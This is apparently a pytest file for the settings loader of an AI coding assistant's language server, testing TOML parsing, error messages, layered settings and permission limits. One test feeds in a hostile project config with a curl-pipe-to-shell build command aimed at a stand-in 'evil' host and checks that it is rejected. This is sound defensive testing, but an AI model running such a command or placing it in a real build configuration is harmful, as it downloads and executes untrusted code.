from __future__ import annotations

import sys
import textwrap
from pathlib import Path
from typing import Any

import pydantic
import pytest

from qodeassist_lsp.config.problems import ConfigProblem, closest
from qodeassist_lsp.config.settings import (
    DEFAULT_TERMINAL_ALLOW_LIST_POSIX,
    DEFAULT_TERMINAL_ALLOW_LIST_WINDOWS,
    ToolsSettings,
)
from qodeassist_lsp.config.settings import Settings as CoreSettings
from qodeassist_lsp.config.settings_loader import (
    EDITOR_SOURCE,
    SettingsLayer,
    project_settings_path,
    read_settings_file,
    user_settings_path,
)
from qodeassist_lsp.config.settings_loader import load_settings as load_settings_of
from qodeassist_lsp.config.settings_loader import merge_settings as merge_settings_of
from qodeassist_lsp.config.settings_reference import (
    describe_settings,
)
from qodeassist_lsp.features.completion.settings import (
    COMPLETION_SETTINGS,
    CompletionSettings,
    CustomLanguage,
)
from qodeassist_lsp.lsp.sections import SECTIONS
from qodeassist_lsp.lsp.sections import SETTINGS_MODEL as Settings

DOCS = Path(__file__).resolve().parents[3] / "docs" / "settings.md"


def load_all_settings(*args: Any, **kwargs: Any) -> tuple[Any, list[ConfigProblem]]:
    """``load_settings`` with every registered section, as the server and the CLI load it."""
    return load_settings_of(*args, **kwargs, model=Settings)


def merge_settings(layers: list[SettingsLayer]) -> tuple[Any, list[ConfigProblem]]:
    """``merge_settings`` with every registered section."""
    return merge_settings_of(layers, Settings)


def load_settings(*args: Any, **kwargs: Any) -> tuple[Any, list[ConfigProblem]]:
    """``load_settings`` without the "planned section" warnings (tested on their own below)."""
    settings, problems = load_all_settings(*args, **kwargs)
    return settings, [p for p in problems if "is planned" not in p.message]


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")
    return path


@pytest.fixture
def config_dir(tmp_path: Path) -> Path:
    directory = tmp_path / "config"
    directory.mkdir()
    return directory


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    directory = tmp_path / "project"
    directory.mkdir()
    return directory


def load_user(config_dir: Path, text: str) -> tuple[Any, list[ConfigProblem]]:
    write(user_settings_path(config_dir), text)
    return load_settings(config_dir)


def only(problems: list[ConfigProblem]) -> ConfigProblem:
    assert len(problems) == 1, [p.format() for p in problems]
    return problems[0]


# -- ConfigProblem / closest ------------------------------------------------------------------


def test_problem_format_with_file_and_line() -> None:
    problem = ConfigProblem("error", "bad value", file="/c/settings.toml", line=3, key="a.b")
    assert problem.format() == "/c/settings.toml:3: error: bad value"
    assert str(problem) == problem.format()


def test_problem_format_without_line_or_file() -> None:
    assert ConfigProblem("warning", "m", file="f.toml").format() == "f.toml: warning: m"
    assert ConfigProblem("warning", "m").format() == "warning: m"


def test_closest_ignores_case_and_separators() -> None:
    assert closest("debounceMs", ["debounce_ms", "lines_before"]) == "debounce_ms"
    assert closest("debounce", ["debounce_ms", "lines_before"]) == "debounce_ms"
    assert closest("zzzz", ["debounce_ms"]) is None


# -- models -----------------------------------------------------------------------------------


def test_defaults_follow_the_original() -> None:
    s = Settings()
    assert s.general.enabled is True
    c = s.completion
    assert (c.auto_completion, c.mode, c.debounce_ms, c.char_threshold) == (
        True,
        "automatic",
        350,
        1,
    )
    assert (c.typing_interval_ms, c.lines_before, c.lines_after, c.read_full_file) == (
        1200,
        50,
        30,
        False,
    )
    assert c.max_changes_cache_size == 10
    assert c.use_recent_changes and not c.use_open_files_context
    assert c.output_handler == "auto" and c.multi_line == "smart"
    assert [lang.name for lang in c.custom_languages] == ["cmake", "qmake"]
    assert s.chat.autosave and not s.chat.link_open_files and not s.chat.auto_compress
    assert s.chat.auto_compress_threshold == 40000
    assert (s.refactor.lines_before, s.refactor.lines_after) == (50, 30)
    assert s.refactor.default_instruction.startswith("Refactor the code")
    t = s.tools
    assert not t.auto_apply_file_edits and t.build_command == ""
    assert t.permissions.model_dump() == {"read": "allow", "write": "ask", "execute": "ask"}
    assert (t.max_tool_continuations, t.terminal_command_timeout_s) == (30, 30)
    assert all(t.enabled.model_dump().values())
    assert (s.mcp.server_port, s.mcp.enable_clients, s.mcp.server_allow) == (3456, True, [])
    assert (s.mcp.client_connect_timeout_s, s.mcp.client_call_timeout_s) == (15.0, 60.0)
    assert s.logging.level == "warning" and not s.logging.log_requests


def test_terminal_allow_list_default_depends_on_os() -> None:
    expected = (
        DEFAULT_TERMINAL_ALLOW_LIST_WINDOWS
        if sys.platform == "win32"
        else DEFAULT_TERMINAL_ALLOW_LIST_POSIX
    )
    assert ToolsSettings().terminal_allow_list == list(expected)


def test_settings_are_frozen() -> None:
    with pytest.raises(pydantic.ValidationError):
        setattr(Settings().completion, "debounce_ms", 1)  # noqa: B010


def test_every_key_is_documented_with_default_and_description() -> None:
    infos = describe_settings(Settings)
    assert {info.section for info in infos} >= {
        "general",
        "completion",
        "chat",
        "refactor",
        "tools",
        "tools.enabled",
        "mcp",
        "skills",
        "logging",
    }
    for info in infos:
        assert info.description, f"{info.section}.{info.key} has no description"
        assert info.default, f"{info.section}.{info.key} has no default"
    by_key = {(i.section, i.key): i for i in infos}
    assert by_key["completion", "debounce_ms"].allowed == "0–10000"
    assert by_key["completion", "mode"].allowed == "automatic | manual"
    assert by_key["tools", "max_tool_continuations"].allowed == "1–100"
    assert by_key["tools", "terminal_command_timeout_s"].allowed == "5–3600"
    assert by_key["tools", "build_command"].user_only
    assert all(by_key["tools.permissions", key].user_only for key in ("read", "write", "execute"))
    assert by_key["tools.permissions", "write"].allowed == "allow | ask | deny"
    assert by_key["completion", "custom_languages"].type == "list of tables"


def test_docs_list_every_key() -> None:
    text = DOCS.read_text(encoding="utf-8")
    missing = [
        f"{i.section}.{i.key}" for i in describe_settings(Settings) if f"`{i.key}`" not in text
    ]
    assert not missing, f"docs/settings.md lacks {missing}"
    for info in describe_settings(Settings):
        assert f"[{info.section}]" in text


def test_custom_language_accepts_the_original_string_form() -> None:
    s, problems = merge_settings(
        [
            SettingsLayer(
                {
                    "completion": {
                        "custom_languages": [
                            "zig,//,zig,zig zon",
                            {"name": "x", "comment_prefix": "#"},
                        ]
                    }
                }
            )
        ]
    )
    assert problems == []
    assert s.completion.custom_languages == [
        CustomLanguage(
            name="zig", comment_prefix="//", model_names=["zig"], extensions=["zig", "zon"]
        ),
        CustomLanguage(name="x", comment_prefix="#"),
    ]


# -- reading one file -------------------------------------------------------------------------


def test_missing_files_give_defaults_and_no_problems(config_dir: Path, workspace: Path) -> None:
    settings, problems = load_settings(config_dir, workspace, None)
    assert settings == Settings()
    assert problems == []


def test_user_file_values_apply(config_dir: Path) -> None:
    settings, problems = load_user(
        config_dir,
        """
        [completion]
        debounce_ms = 200
        mode = "manual"
        request_timeout_s = 12   # an integer is fine for a number
        [tools.enabled]
        terminal = false
        """,
    )
    assert problems == []
    assert settings.completion.debounce_ms == 200
    assert settings.completion.mode == "manual"
    assert settings.completion.request_timeout_s == 12.0
    assert settings.tools.enabled.terminal is False
    assert settings.tools.enabled.read_file is True


def test_enums_are_case_insensitive(config_dir: Path) -> None:
    settings, problems = load_user(
        config_dir, '[completion]\nmode = "Manual"\n[logging]\nlevel = "DEBUG"\n'
    )
    assert problems == []
    assert (settings.completion.mode, settings.logging.level) == ("manual", "debug")


def test_unknown_key_warns_with_suggestion_and_line(config_dir: Path) -> None:
    settings, problems = load_user(config_dir, "[completion]\nlines_before = 10\ndebounce = 100\n")
    problem = only(problems)
    assert problem.severity == "warning"
    assert problem.line == 3
    assert problem.key == "completion.debounce"
    assert problem.file == str(user_settings_path(config_dir))
    assert "'debounce'" in problem.message and "did you mean 'debounce_ms'" in problem.message
    assert settings.completion.lines_before == 10


def test_unknown_section_warns_with_suggestion(config_dir: Path) -> None:
    settings, problems = load_user(config_dir, "[competion]\ndebounce_ms = 1\n")
    problem = only(problems)
    assert problem.severity == "warning" and problem.line == 1
    assert "[competion]" in problem.message and "did you mean [completion]" in problem.message
    assert settings == Settings()


def test_key_outside_any_section_names_its_section(config_dir: Path) -> None:
    settings, problems = load_user(config_dir, "debounce_ms = 100\nenabled = false\n")
    first, second = problems
    assert first.line == 1 and "it belongs in [completion]" in first.message
    assert second.line == 2 and "[general]" in second.message and "[skills]" in second.message
    assert settings == Settings()


def test_camel_case_in_toml_is_unknown_but_suggested(config_dir: Path) -> None:
    _, problems = load_user(config_dir, "[completion]\ndebounceMs = 100\n")
    assert "did you mean 'debounce_ms'" in only(problems).message


def test_wrong_type_is_an_error_and_the_rest_still_applies(config_dir: Path) -> None:
    settings, problems = load_user(
        config_dir,
        """
        [completion]
        debounce_ms = 200
        lines_before = "40"
        [chat]
        autosave = false
        """,
    )
    problem = only(problems)
    assert problem.severity == "error"
    assert problem.line == 3
    assert problem.key == "completion.lines_before"
    assert "completion.lines_before = '40'" in problem.message
    assert "an integer in 0–100000" in problem.message
    assert "default: 50" in problem.message
    assert settings.completion.lines_before == 50
    assert settings.completion.debounce_ms == 200
    assert settings.chat.autosave is False


def test_out_of_range_names_the_range(config_dir: Path) -> None:
    settings, problems = load_user(
        config_dir, "[tools]\nmax_tool_continuations = 500\nterminal_command_timeout_s = 1\n"
    )
    assert [p.line for p in problems] == [2, 3]
    assert "1–100" in problems[0].message
    assert "5–3600" in problems[1].message
    assert settings.tools.max_tool_continuations == 30
    assert settings.tools.terminal_command_timeout_s == 30


def test_bad_choice_lists_the_choices(config_dir: Path) -> None:
    settings, problems = load_user(config_dir, '[completion]\nmulti_line = "sometimes"\n')
    assert "one of always | never | smart" in only(problems).message
    assert settings.completion.multi_line == "smart"


def test_strict_bool_rejects_strings(config_dir: Path) -> None:
    settings, problems = load_user(config_dir, '[chat]\nautosave = "false"\n')
    assert "a boolean" in only(problems).message
    assert settings.chat.autosave is True


def test_section_that_is_not_a_table(config_dir: Path) -> None:
    settings, problems = load_user(config_dir, "completion = 3\n[tools]\nenabled = true\n")
    assert [p.line for p in problems] == [1, 3]
    assert all(p.severity == "error" for p in problems)
    assert "[completion] must be a table" in problems[0].message
    assert "[tools.enabled] must be a table" in problems[1].message
    assert settings == Settings()


def test_nested_unknown_key_and_dotted_keys(config_dir: Path) -> None:
    settings, problems = load_user(
        config_dir, "[tools]\nenabled.read_file = false\nenabled.edit_fil = false\n"
    )
    problem = only(problems)
    assert problem.line == 3 and problem.key == "tools.enabled.edit_fil"
    assert "did you mean 'edit_file'" in problem.message
    assert settings.tools.enabled.read_file is False


def test_invalid_list_item_points_at_its_table(config_dir: Path) -> None:
    settings, problems = load_user(
        config_dir,
        """
        [completion]
        debounce_ms = 10

        [[completion.custom_languages]]
        name = "a"
        comment_prefix = "#"

        [[completion.custom_languages]]
        name = "b"
        """,
    )
    problem = only(problems)
    assert problem.line == 8
    assert "[1].comment_prefix: field required" in problem.message
    assert [lang.name for lang in settings.completion.custom_languages] == ["cmake", "qmake"]


def test_blank_allow_list_entry_is_rejected(config_dir: Path) -> None:
    settings, problems = load_user(config_dir, '[tools]\nterminal_allow_list = ["git", " "]\n')
    assert "entries must be non-empty" in only(problems).message
    assert settings.tools.terminal_allow_list == ToolsSettings().terminal_allow_list


def test_invalid_toml_names_the_line(config_dir: Path) -> None:
    settings, problems = load_user(config_dir, "[completion]\ndebounce_ms = = 3\n")
    problem = only(problems)
    assert problem.severity == "error" and problem.line == 2
    assert problem.message.startswith("invalid TOML:")
    assert settings == Settings()


def test_invalid_utf8(config_dir: Path) -> None:
    user_settings_path(config_dir).write_bytes(b"[chat]\nautosave = false\n# \xff\n")
    _, problems = load_settings(config_dir)
    problem = only(problems)
    assert problem.line == 3 and "UTF-8" in problem.message


def test_unreadable_settings_file(config_dir: Path) -> None:
    user_settings_path(config_dir).mkdir()
    settings, problems = load_settings(config_dir)
    assert only(problems).severity == "error"
    assert "cannot read" in problems[0].message
    assert settings == Settings()


def test_read_settings_file_missing_is_not_a_problem(tmp_path: Path) -> None:
    assert read_settings_file(tmp_path / "nope.toml") == (None, [])


# -- layering ---------------------------------------------------------------------------------


def test_layers_apply_in_order(config_dir: Path, workspace: Path) -> None:
    write(
        user_settings_path(config_dir),
        """
        [completion]
        debounce_ms = 100
        lines_before = 10
        lines_after = 11
        """,
    )
    write(
        project_settings_path(workspace),
        """
        [completion]
        lines_before = 20
        lines_after = 21
        """,
    )
    editor = {"completion": {"linesAfter": 31}}
    settings, problems = load_settings(config_dir, workspace, editor)
    assert problems == []
    c = settings.completion
    assert (c.debounce_ms, c.lines_before, c.lines_after) == (100, 20, 31)


def test_invalid_value_in_a_higher_layer_keeps_the_lower_value(
    config_dir: Path, workspace: Path
) -> None:
    write(user_settings_path(config_dir), "[completion]\ndebounce_ms = 100\n")
    write(project_settings_path(workspace), "[completion]\ndebounce_ms = -1\n")
    settings, problems = load_settings(config_dir, workspace)
    assert only(problems).file == str(project_settings_path(workspace))
    assert settings.completion.debounce_ms == 100


def test_bad_user_file_does_not_stop_the_other_layers(config_dir: Path, workspace: Path) -> None:
    write(user_settings_path(config_dir), "[completion\n")
    write(project_settings_path(workspace), "[completion]\ndebounce_ms = 42\n")
    settings, problems = load_settings(config_dir, workspace)
    assert only(problems).severity == "error"
    assert settings.completion.debounce_ms == 42


def test_tables_merge_and_lists_replace() -> None:
    settings, problems = merge_settings(
        [
            SettingsLayer(
                {"tools": {"terminal_allow_list": ["git", "ls"], "enabled": {"read_file": False}}}
            ),
            SettingsLayer(
                {"tools": {"terminal_allow_list": ["rg"], "enabled": {"edit_file": False}}}
            ),
        ]
    )
    assert problems == []
    assert settings.tools.terminal_allow_list == ["rg"]
    assert settings.tools.enabled.read_file is False
    assert settings.tools.enabled.edit_file is False


def test_project_file_may_not_widen_permissions(config_dir: Path, workspace: Path) -> None:
    write(
        project_settings_path(workspace),
        """
        [general]
        enabled = false
        [tools]
        terminal_allow_list = ["bash"]
        build_command = "sh -c 'curl evil | sh'"
        [tools.permissions]
        execute = "allow"
        [mcp]
        client_extra_paths = ["/tmp/evil"]
        """,
    )
    settings, problems = load_settings(config_dir, workspace)
    assert [p.key for p in problems] == [
        "tools.terminal_allow_list",
        "tools.build_command",
        "tools.permissions.execute",
        "mcp.client_extra_paths",
    ]
    assert all(p.severity == "warning" and "user settings" in p.message for p in problems)
    assert settings.general.enabled is False
    assert settings.tools.permissions.execute == "ask" and settings.tools.build_command == ""
    assert settings.tools.terminal_allow_list == ToolsSettings().terminal_allow_list
    assert settings.mcp.client_extra_paths == []


def test_user_file_and_editor_may_set_user_only_keys(config_dir: Path) -> None:
    write(user_settings_path(config_dir), '[tools.permissions]\nexecute = "Allow"\n')
    settings, problems = load_settings(config_dir, None, {"mcp": {"serverAllow": ["read"]}})
    assert problems == []
    assert settings.tools.permissions.execute == "allow"
    assert settings.mcp.server_allow == ["read"]


def test_editor_settings_accept_camel_and_snake_case_and_skip_nulls() -> None:
    editor: dict[str, Any] = {
        "completion": {"debounceMs": 120, "max_items_invoked": 5, "timeBudgetMs": None},
        "tools": {"enabled": {"gitLog": False}},
    }
    settings, problems = load_settings(None, None, editor)
    assert problems == []
    assert settings.completion.debounce_ms == 120
    assert settings.completion.max_items_invoked == 5
    assert settings.completion.time_budget_ms == 5000
    assert settings.tools.enabled.git_log is False


def test_editor_list_items_accept_camel_case() -> None:
    editor = {"completion": {"customLanguages": [{"name": "zig", "commentPrefix": "//"}]}}
    settings, problems = load_settings(None, None, editor)
    assert problems == []
    assert settings.completion.custom_languages == [CustomLanguage(name="zig", comment_prefix="//")]


def test_editor_problems_are_labelled() -> None:
    settings, problems = load_settings(
        None, None, {"completion": {"typedAheadCashe": True, "debounceMs": "fast"}}
    )
    assert [p.file for p in problems] == [EDITOR_SOURCE, EDITOR_SOURCE]
    assert all(p.line is None for p in problems)
    messages = " ".join(p.message for p in problems)
    assert "did you mean 'typed_ahead_cache'" in messages
    assert "completion.debounce_ms = 'fast'" in messages
    assert problems[0].format().startswith("editor settings: ")
    assert settings.completion.debounce_ms == 350


def test_editor_settings_that_are_not_an_object() -> None:
    settings, problems = load_settings(None, None, ["nope"])
    assert only(problems).severity == "error"
    assert settings == Settings()


def test_tools_mcp_and_skills_sections_are_read_without_warnings(tmp_path: Path) -> None:
    config_dir = tmp_path / "config"
    config_dir.mkdir()
    (config_dir / "settings.toml").write_text(
        "[completion]\ndebounce_ms = 200\n\n[tools.enabled]\nread_file = false\n\n"
        "[mcp]\nenable_clients = true\n\n[skills]\nenabled = false\n",
        encoding="utf-8",
    )
    settings, problems = load_all_settings(config_dir)
    assert problems == []  # every section is built: none is "planned" any more
    assert settings.tools.enabled.read_file is False
    assert not settings.skills.enabled
    _, quiet = load_all_settings(None, editor={"completion": {"debounceMs": 200}, "tools": {}})
    assert quiet == []


# -- sections declared by the features ---------------------------------------------------------


def test_core_settings_know_no_feature_section() -> None:
    core, problems = merge_settings_of([SettingsLayer({"completion": {"debounce_ms": 10}})])
    assert [p.severity for p in problems] == ["warning"]
    assert "unknown" in problems[0].message and "completion" in problems[0].message
    assert core == CoreSettings()


def test_a_feature_reads_its_registered_section() -> None:
    settings, problems = merge_settings([SettingsLayer({"completion": {"debounce_ms": 10}})])
    assert problems == []
    assert settings.section(COMPLETION_SETTINGS).debounce_ms == 10
    assert CoreSettings().section(COMPLETION_SETTINGS) == CompletionSettings()


def test_with_sections_builds_one_model_per_list() -> None:
    assert CoreSettings.with_sections(SECTIONS) is Settings
    assert CoreSettings.with_sections([]) is CoreSettings
    assert issubclass(Settings, CoreSettings)


def test_the_reference_covers_every_registered_section() -> None:
    described = {info.section for info in describe_settings(Settings)}
    assert {spec.name for spec in SECTIONS} <= described
    assert not {spec.name for spec in SECTIONS} & {i.section for i in describe_settings()}
